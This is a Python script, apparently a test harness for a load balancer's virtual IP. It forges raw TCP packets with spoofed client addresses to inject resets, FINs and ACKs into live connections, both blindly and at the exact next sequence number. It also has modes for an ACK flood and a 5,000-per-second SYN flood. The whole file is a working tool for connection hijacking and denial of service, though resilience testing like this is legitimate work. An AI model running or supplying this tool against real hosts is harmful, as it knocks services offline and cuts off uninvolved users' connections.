#!/usr/bin/python3
"""Sends what somebody forges into connections, as their clients.

  forge.py blind|exact VIP PORT <NUMBERS
  forge.py flood|syns VIP PORT SECONDS

NUMBERS are lines of peers.py's "numbers".  blind: resets, FINs, ACKs and SYNs with numbers drawn at random, a
FIN and an ACK of which only the acknowledgement is, a reset and a FIN whose checksum is wrong at the right
numbers, and resets beside the right number by one.
exact: a reset at exactly the next number, as the client itself would send it.
flood, syns: ACKs of connections that nobody has, as fast as it can, or 5,000 SYNs a second, from anywhere; prints
how many.
"""
import random
import socket
import struct
import sys
import time

FIN, SYN, RST, ACK = 1, 2, 4, 16


def summed(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return total ^ 0xffff


def packet(client, port, vip, vip_port, flags, seq, ack, wrong=0):
    ends = socket.inet_aton(client) + socket.inet_aton(vip)
    header = struct.pack("!HHIIBBHHH", port, vip_port, seq % 2**32, ack % 2**32, 5 << 4, flags, 1000, 0, 0)
    checksum = summed(ends + struct.pack("!HH", 6, len(header)) + header) ^ wrong
    header = header[:16] + struct.pack("!H", checksum) + header[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(header), 0, 0, 64, 6, 0) + ends + header


def forged(kind, seq, ack):
    far = lambda: random.randrange(2**32)  # noqa: E731
    if kind == "exact":
        return [(RST, seq, 0, 0)]
    return [(RST, far(), 0, 0), (SYN, far(), 0, 0), (RST | ACK, far(), far(), 0), (ACK, far(), far(), 0),
            (FIN | ACK, far(), far(), 0), (FIN | ACK, seq, far(), 0), (ACK, seq, far(), 0),
            (RST, seq - 1, 0, 0), (RST, seq + 1, 0, 0), (RST, seq, 0, 1), (FIN | ACK, seq, ack, 1), (SYN, far(), 0, 0)]


def blind_or_exact(kind, wire, vip, vip_port):
    for line in sys.stdin:
        client, port, seq, ack = line.split()
        for flags, at, acknowledged, wrong in forged(kind, int(seq), int(ack)):
            wire.sendto(packet(client, int(port), vip, vip_port, flags, at, acknowledged, wrong), (vip, 0))


def flood(wire, vip, vip_port, seconds, flags, together, pause):
    def one_of_them():
        client = socket.inet_ntoa(struct.pack("!I", random.randrange(0x0b000000, 0x60000000)))
        return packet(client, random.randrange(1024, 65536), vip, vip_port, flags, random.randrange(2**32),
                      random.randrange(2**32))
    packets = [one_of_them() for _ in range(200 * together)]
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        for one in packets[sent % len(packets):][:together]:
            wire.sendto(one, (vip, 0))
            sent += 1
        time.sleep(pause)
    print(sent)


kind, vip, vip_port = sys.argv[1], sys.argv[2], int(sys.argv[3])
wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
random.seed(1)
if kind in ("flood", "syns"):
    flood(wire, vip, vip_port, float(sys.argv[4]), *((SYN, 50, 0.01) if kind == "syns" else (ACK, 1000, 0)))
else:
    blind_or_exact(kind, wire, vip, vip_port)
